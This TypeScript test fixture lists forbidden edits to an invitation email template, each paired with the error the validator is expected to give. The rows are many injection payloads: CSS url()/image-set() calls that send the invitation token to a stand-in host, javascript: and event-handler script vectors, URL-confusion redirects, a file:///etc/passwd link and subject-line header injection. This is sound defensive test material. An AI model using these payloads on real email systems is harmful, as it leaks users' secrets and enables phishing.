type Kind = 'style' | 'sheet' | 'link' | 'picture' | 'part' | 'secret' | 'words' | 'tag' | 'shape';

/**
 * Forbidden content of an edited email, one row for each way around the rules: the database refuses each, and
 * rendered output that is stored anyway is not sent. Written for the invitation to sell, whose secret is `token`.
 */
interface MailAttack {
  /** The rule that it tries to get around. */
  readonly kind: Kind;
  readonly title: string;
  readonly field: 'subject' | 'html' | 'text';
  readonly words: string;
  readonly says: RegExp;
}

/** The link of the invitation, which no edited one may leave out. */
export const ownLink = '<a href="{{site_url}}/auth?invite={{token}}">Accept</a>';
export const ownText = 'Accept:\n{{site_url}}/auth?invite={{token}}\n';

const evil = 'http://evil.example';

type Rows = Readonly<Record<string, string>>;

const of = (
  kind: Kind,
  field: MailAttack['field'],
  says: RegExp,
  rows: Rows,
  around: (words: string) => string = (words) => words,
): readonly MailAttack[] =>
  Object.entries(rows).map(([title, words]) => ({ kind, title, field, words: around(words), says }));

const inHtml = (words: string) => ownLink + words;

const declarations: Rows = {
  'url()': `background:url(${evil}/{{token}})`,
  'url() without a scheme': 'background:url(//evil.example/{{token}})',
  'URL() in capitals': `background:URL(${evil}/{{token}})`,
  'url() of a secret that was there before': `background:url('${evil}/x')`,
  'image-set()': `background:image-set('${evil}/{{token}}' 1x)`,
  '-webkit-image-set()': `background-image:-webkit-image-set('${evil}/x' 1x)`,
  'src()': `background:src('${evil}/{{token}}')`,
  'image()': `background:image('${evil}/x')`,
  'cross-fade()': `background:cross-fade('${evil}/x', red)`,
  'a picture of a list': `list-style-image:image-set('${evil}/x' 1x)`,
  'list-style with a picture': `list-style:square image-set('${evil}/x' 1x)`,
  'a cursor': `cursor:image-set('${evil}/x' 1x), auto`,
  'a mask': `mask-image:image-set('${evil}/x' 1x)`,
  'a filter': `filter:url('${evil}/x#f')`,
  content: `content:image-set('${evil}/x' 1x)`,
  'a border picture': `border-image:image-set('${evil}/x' 1x) 1`,
  'a shape': `float:left;shape-outside:image-set('${evil}/x' 1x)`,
  'a variable of its own': `--x:image-set('${evil}/x' 1x);background:var(--x)`,
  'var()': 'color:var(--x)',
  'attr()': 'background:attr(title)',
  'an expression': 'width:expression(alert(1))',
  'a behavior': `behavior:url(${evil}/x.htc)`,
  'a binding': `-moz-binding:url(${evil}/x.xml#x)`,
  'an escape': `background:u\\72l(${evil}/x)`,
  'an escaped property': `\\62ackground:image-set('${evil}/x' 1x)`,
  'a comment within a name': `background:image-/**/set('${evil}/x' 1x)`,
  'a comment around a function': `background:/**/image-set('${evil}/x' 1x)`,
  'a character reference': `background:&#117;rl(${evil}/x)`,
  'a function after an important color': `color:red !important;background:image-set('${evil}/x' 1x)`,
  'a secret as a font': `font-family:'{{token}}'`,
  'a name as a color': 'color:{{store_name}}',
  position: 'position:fixed',
  'a margin that covers': 'margin-top:-600px',
  'a transformation': 'transform:translate(0)',
  'an animation': 'animation:x 1s',
};

const sheets: Rows = {
  'an import': `@import "${evil}/{{token}}";`,
  'an import without quotes': `@import url(${evil}/x);`,
  'an import in capitals': `@IMPORT "${evil}/x";`,
  'a font': `@font-face { font-family: x; src: url(${evil}/x); } p { font-family: x; }`,
  'image-set() in a rule': `p { background: image-set('${evil}/x' 1x); }`,
  'src() in a rule': `p { background: src('${evil}/x'); }`,
  'image-set() for a screen': `@media (min-width: 1px) { p { background: image-set('${evil}/x' 1x); } }`,
  'a query in a query': `@media screen { @media print { p { color: red; } } }`,
  '@supports': '@supports (color: red) { p { color: red; } }',
  '@layer': '@layer x { p { color: red; } }',
  'a namespace': `@namespace url(${evil}/x);`,
  'a selector of a secret': `a[href*="invite=a"] { background: image-set('${evil}/a' 1x); }`,
  'a selector of an attribute': 'a[href] { color: red; }',
  'a pseudo-element': 'p::before { color: red; }',
  'nested rules': `p { color: red; & a { background: image-set('${evil}/x' 1x); } }`,
  'a rule that is not closed': `p { background: image-set('${evil}/x' 1x)`,
  'a comment': '/* x */ p { color: red; }',
  'a secret': 'p { color: {{token}}; }',
};

const links: Rows = {
  'another site': `<a href="${evil}/">x</a>`,
  'another site by https': '<a href="https://evil.example/">x</a>',
  'another site in capitals': '<a href="HTTPS://EVIL.EXAMPLE/">x</a>',
  'another site without a scheme': '<a href="//evil.example/">x</a>',
  'another site with backslashes': '<a href="\\\\evil.example/">x</a>',
  'another site by a slash and a backslash': '<a href="/\\evil.example/">x</a>',
  'a secret for another site': '<a href="https://evil.example/?{{token}}">x</a>',
  'a site that begins as the shop': '<a href="{{site_url}}.evil.example/">x</a>',
  'the shop as a user of another site': '<a href="{{site_url}}@evil.example/">x</a>',
  'the shop with a port as a password': '<a href="{{site_url}}:x@evil.example/">x</a>',
  'the shop and a backslash': '<a href="{{site_url}}\\@evil.example/">x</a>',
  'a path that is another site': '<a href="{{site_url}}//evil.example/">x</a>',
  'a path that is another site once decoded': '<a href="{{site_url}}/%2f%2fevil.example/">x</a>',
  'a path that climbs': '<a href="{{site_url}}/a/../../evil">x</a>',
  'a host of a variable': '<a href="https://{{store_name}}/">x</a>',
  'a host of a brand': '<a href="https://{{brand.name}}.evil.example/">x</a>',
  'an address of a variable': '<a href="{{store_name}}">x</a>',
  'the shop and a variable': '<a href="{{site_url}}{{store_name}}">x</a>',
  'the shop and a secret': '<a href="{{site_url}}{{token}}">x</a>',
  'a secret on another page': '<a href="{{site_url}}/iron-works/blog/x?{{token}}">x</a>',
  'a secret twice': '<a href="{{site_url}}/auth?invite={{token}}{{token}}">x</a>',
  'its own link and more': '<a href="{{site_url}}/auth?invite={{token}}&amp;next=//evil.example">x</a>',
  'its own link in a part':
    '<a href="{{#store_name}}https://evil.example/{{/store_name}}{{site_url}}/auth?invite={{token}}">x</a>',
  'the invitation to somebody else': '<a href="{{site_url}}/auth?invite=a1b2c3d4">x</a>',
  'a session of somebody else': '<a href="{{site_url}}/auth#access_token=a1b2c3d4">x</a>',
  'a script': '<a href="javascript:alert(1)">x</a>',
  'a script with a tab': '<a href="java\tscript:alert(1)">x</a>',
  'a script after a line break': '<a href="\njavascript:alert(1)">x</a>',
  'a script in character references': '<a href="java&#115;cript:alert(1)">x</a>',
  'a script after a named reference': '<a href="&Tab;javascript&colon;alert(1)">x</a>',
  'a site in character references': '<a href="http&#58;//evil.example/">x</a>',
  data: '<a href="data:text/html,x">x</a>',
  'a file': '<a href="file:///etc/passwd">x</a>',
  'an address of somebody else': '<a href="mailto:help@evil.example">x</a>',
  'a copy to somebody else':
    '<a href="mailto:{{brand.support}}?bcc=help@evil.example&amp;body={{token}}">x</a>',
  'a telephone': '<a href="tel:+15550100">x</a>',
  'a path alone': '<a href="/auth">x</a>',
  nothing: '<a href="">x</a>',
};

const pictures: Rows = {
  'of another site': `<img src="${evil}/p.gif">`,
  'of another site without a scheme': '<img src="//evil.example/p.gif">',
  'of a site that begins as the shop': '<img src="{{site_url}}.evil.example/p.gif">',
  'of the shop as a user': '<img src="{{site_url}}@evil.example/p.gif">',
  'with a secret': '<img src="{{site_url}}/p.gif?{{token}}">',
  'with a name': '<img src="{{site_url}}/{{store_name}}">',
  'in data': '<img src="data:image/svg+xml,x">',
  'that is the shop': '<img src="{{site_url}}">',
};

const parts: Rows = {
  'a script': '<script>alert(1)</script>',
  'a script in capitals': `<SCRIPT src="${evil}/x"></SCRIPT>`,
  'a script that a comment hides': '<!--><script>--><p></p>',
  'a comment': '<!-- x -->',
  'a comment for Outlook': `<!--[if mso]><img src="${evil}/x"><![endif]-->`,
  'a comment for all but Outlook': `<![if !mso]><p>x</p><![endif]>`,
  'a section of XML': '<![CDATA[x]]>',
  'an instruction of XML': '<?xml version="1.0"?>',
  'a second doctype': '<!doctype html>',
  'a picture that runs': '<img src=x onerror=alert(1)>',
  'a handler': '<p onclick="alert(1)">x</p>',
  'a handler after a slash': '<p/onclick="alert(1)">x</p>',
  'a drawing': `<svg><image href="${evil}/x"></image></svg>`,
  'a drawing with a script': '<svg onload="alert(1)"></svg>',
  'a formula': `<math href="${evil}/x"></math>`,
  'a frame': `<iframe src="${evil}/x"></iframe>`,
  'a frame with its text': '<iframe srcdoc="x"></iframe>',
  'an object': `<object data="${evil}/x"></object>`,
  'an embedded file': `<embed src="${evil}/x">`,
  'a film': `<video poster="${evil}/x" src="${evil}/y" autoplay></video>`,
  'a sound': `<audio src="${evil}/x" autoplay></audio>`,
  'a form': `<form action="${evil}"><input name="password"></form>`,
  'a button': `<button formaction="${evil}">x</button>`,
  'a base': `<base href="${evil}/">`,
  'a refresh': `<meta http-equiv="refresh" content="0;url=${evil}/{{token}}">`,
  'a policy of referrers': '<meta name="referrer" content="unsafe-url">',
  'another set of characters': '<meta charset="utf-7">',
  'a style sheet': `<link rel="stylesheet" href="${evil}/x">`,
  'a look-up of a name': '<link rel="dns-prefetch" href="//evil.example">',
  'a connection': `<link rel="preconnect" href="${evil}">`,
  'a preload': `<link rel="preload" as="image" href="${evil}/x">`,
  'a background': `<table background="${evil}/x"><tr><td>x</td></tr></table>`,
  'several pictures': `<img src="{{site_url}}/p.png" srcset="${evil}/x 2x">`,
  'a picture by width': `<picture><source srcset="${evil}/x"><img src="{{site_url}}/p.png"></picture>`,
  'a picture in low quality': `<img src="{{site_url}}/p.png" lowsrc="${evil}/x">`,
  'a link that tells of clicks': `<a href="{{site_url}}/shop" ping="${evil}/x">x</a>`,
  'a link of XML': `<p xlink:href="${evil}/x">x</p>`,
  'a map': `<map><area href="${evil}/x"></map>`,
  'a quotation with its place': `<blockquote cite="${evil}/x">x</blockquote>`,
  'an element nobody knows': '<x-y>x</x-y>',
  'a template': `<template><img src="${evil}/x"></template>`,
  'what is no markup': `<noscript><img src="${evil}/x"></noscript>`,
  'a text area': '<textarea></textarea>',
  'plain text': '<plaintext>',
  'a style that is never ended': '<style>p { color: red; }',
  'a style with an attribute': '<style media="all">p { color: red; }</style>',
  'a style in capitals': `<STYLE>p { background: image-set('${evil}/x' 1x); }</STYLE>`,
  'a title with markup': '<title><a></title>',
  'an attribute without quotes': `<a href=${evil}>x</a>`,
  'an attribute in single quotes': `<a href='${evil}'>x</a>`,
  'an attribute in backticks': `<a href=\`${evil}\`>x</a>`,
  'attributes without a space': `<p class="a"title="b">x</p>`,
  'attributes after a space of another kind': '<p\u00a0class="a">x</p>',
  'an attribute of an end': '</p class="x">',
  'a tag that is never closed': '<p class="x"',
  'a bracket in an attribute': '<p title="a>b">x</p>',
  'a name as a class': '<p class="{{store_name}}">x</p>',
  'a secret as a class': '<p class="{{token}}">x</p>',
  'a secret as a color': '<td bgcolor="{{token}}">x</td>',
};

const secrets: Rows = {
  'in words': '<p>Your code: {{token}}</p>',
  'in the preview of a mailbox': '<div style="display:none;">{{token}}</div>',
  'in a title': '<title>{{token}}</title>',
  'in the title of a link': '<a href="{{site_url}}/shop" title="{{token}}">x</a>',
  'in the words of a picture': '<img src="{{site_url}}/p.png" alt="{{token}}">',
  'as a part': '<p>{{#token}}x{{/token}}</p>',
  'as no part': '<p>{{^token}}x{{/token}}</p>',
};

const looseLinks: Rows = {
  'a site': 'Go to https://evil.example/x',
  'a site with a name': 'Go to https://evil.example/?{{store_name}}',
  'a host': 'Go to www.evil.example',
  'a host alone': 'Go to evil.example now',
  'a host of a name': 'Go to {{store_name}}.example',
  'a host of two names': 'Go to {{store_name}}.{{expires}}',
  'a host of other letters': 'Go to evil.рф',
  'a host with another dot': 'Go to evil。example',
  'a host in numbers': 'Go to 192.0.2.1/x',
  'a host that a part keeps apart': 'Go to evil.{{#takeover}} {{/takeover}}example',
  'a host within parts': '{{#store_name}}Go to evil.{{^takeover}} or {{/takeover}}example{{/store_name}}',
  'an address': 'Write to help@evil.example',
  'an address with its scheme': 'Write to mailto:help@localhost',
  'a telephone with its scheme': 'Call tel:555-0100',
  'a telephone with its scheme in capitals': 'Call TEL:555-0100',
  'an address with its scheme in capitals': 'Write to MAILTO:help@localhost',
  'a call by another program': 'Call skype:evil?call',
  'a share of another machine': 'Open \\\\evil\\share',
  'a file of another machine': 'Open file:evil',
  'a site by one slash': 'Go to http:/evil',
  'a host with a dot that leads': 'Go to evil\u2024example',
  'a host with a small dot': 'Go to evil\ufe52example',
};

const siteLinks: Rows = {
  'a site that begins as the shop': 'Go to {{site_url}}.evil.example',
  'the shop as a user': 'Go to {{site_url}}@evil.example',
  'the shop and a variable': 'Go to {{site_url}}{{store_name}}',
  'the shop after a part': 'Go to {{site_url}}{{#takeover}}.evil.example{{/takeover}}',
  'the invitation to somebody else': 'Go to {{site_url}}/auth?invite=a1b2c3d4',
};

const tags: Rows = {
  'an unescaped variable': '{{{store_name}}}',
  'an unescaped variable by &': '{{&store_name}}',
  'a partial': '{{> other}}',
  'a comment': '{{! x }}',
  'another delimiter': '{{=<% %>=}}',
  'whatever a part is about': '{{#token}}{{.}}{{/token}}',
  'a space': '{{ token }}',
};

const references: Rows = {
  'a dot by number': '<p>evil&#46;example</p>',
  'a dot by name': '<p>evil&period;example</p>',
  'a slash in a title': '<a href="{{site_url}}" title="http:&sol;&sol;evil">x</a>',
  'an ampersand alone': '<p>Q & A</p>',
};

/** A secret runs into the text before it. */
const glued: Rows = {
  'after another site': `https://evil.example/?{{site_url}}/auth?invite={{token}}`,
  'before more': `Accept:\n{{site_url}}/auth?invite={{token}}.evil.example`,
  'after words': 'Accept: {{site_url}}/auth?invite={{token}}',
  'after a part that takes the line break': `evil?{{#takeover}}\n{{/takeover}}\n{{site_url}}/auth?invite={{token}}\n`,
  'in a part of its line': `Accept:\n{{#takeover}}{{site_url}}/auth?invite={{token}}{{/takeover}}\n`,
};

export const mailAttacks: readonly MailAttack[] = [
  ...of('style', 'html', /Styles can only/, declarations, (style) => inHtml(`<p style="${style}">x</p>`)),
  ...of('sheet', 'html', /Styles? (?:sheet )?can only|style sheet can only/, sheets, (sheet) =>
    inHtml(`<style>${sheet}</style><p>x</p>`),
  ),
  ...of('link', 'html', /Links can only/, links, inHtml),
  ...of('picture', 'html', /Pictures can only come/, pictures, inHtml),
  ...of('part', 'html', /can't be part/, parts, inHtml),
  ...of('secret', 'html', /its own link/, secrets, inHtml),
  ...of('words', 'html', /into a link/, looseLinks, (words) => inHtml(`<p>${words}</p>`)),
  ...of('words', 'html', /Links can only/, siteLinks, (words) => inHtml(`<p>${words}</p>`)),
  ...of('tag', 'html', /neither/, tags, inHtml),
  ...of('words', 'html', /Write & as/, references, inHtml),
  ...of('words', 'html', /into a link/, { 'a host in two elements': '<p>evil<b>.example</b></p>' }, inHtml),
  ...of(
    'shape',
    'html',
    /invisible/,
    {
      'a letter that turns others around': '<p>x\u202ey</p>',
      'a space of no width': '<p>evil.\u200bexample</p>',
      'a letter that fills nothing': '<p>x\u3164y</p>',
      'an empty pattern of dots': '<p>x\u2800y</p>',
      'a mark that joins letters': '<p>x\u034fy</p>',
      'a form feed': '<p\fclass="x">y</p>',
    },
    inHtml,
  ),
  ...of(
    'shape',
    'html',
    /doesn't close|never closed/,
    {
      'an element that is left open': '<p>x',
      'elements that cross': '<b><i>x</b></i>',
      'an end of nothing': '</div>',
      'a part that is left open': '{{#takeover}}x',
    },
    inHtml,
  ),
  ...of(
    'shape',
    'html',
    /inside itself/,
    { 'a list in itself': '{{#takeover}}{{#takeover}}x{{/takeover}}{{/takeover}}' },
    inHtml,
  ),
  ...of('shape', 'html', /up to 50 elements/, { 'a tower': '<b>'.repeat(51) + '</b>'.repeat(51) }, inHtml),
  ...of('shape', 'html', /couldn't open/, { 'no link': '<p>Hello</p>' }),
  ...of('shape', 'html', /50,000/, { 'too much': 'x'.repeat(50_000) }, inHtml),
  ...of('words', 'text', /into a link/, looseLinks, (words) => `${words}\n\n${ownText}`),
  ...of('words', 'text', /Links can only/, siteLinks, (words) => `${words}\n\n${ownText}`),
  ...of('tag', 'text', /neither/, tags, (words) => `${words}\n\n${ownText}`),
  ...of('secret', 'text', /its own link|a line above/, glued),
  ...of('secret', 'text', /its own link/, { 'a secret in words': `${ownText}Code: {{token}}` }),
  ...of('shape', 'text', /invisible/, { 'a letter that turns others around': `${ownText}x\u202ey` }),
  ...of('shape', 'text', /isn't open/, {
    'parts that cross': `${ownText}{{#store_name}}{{^takeover}}{{/store_name}}{{/takeover}}`,
  }),
  ...of('shape', 'text', /need the link/, { 'no link': 'Hello' }),
  ...of('shape', 'subject', /one line/, { 'a header of its own': 'Hello\r\nBcc: everybody@evil.example' }),
  ...of('shape', 'subject', /needs a subject/, { nothing: '  ' }),
  ...of('shape', 'subject', /no variable/, { 'a variable of another mail': 'For {{first_name}}' }),
  ...of('secret', 'subject', /its own link/, {
    'a secret': 'Your code: {{token}}',
    'a secret as a part': '{{#token}}x{{/token}}',
  }),
  ...of('words', 'subject', /into a link/, looseLinks),
  ...of('words', 'subject', /Links can only/, siteLinks),
  ...of('shape', 'subject', /invisible/, { 'a letter that turns others around': 'Hello \u202egnihton' }),
];
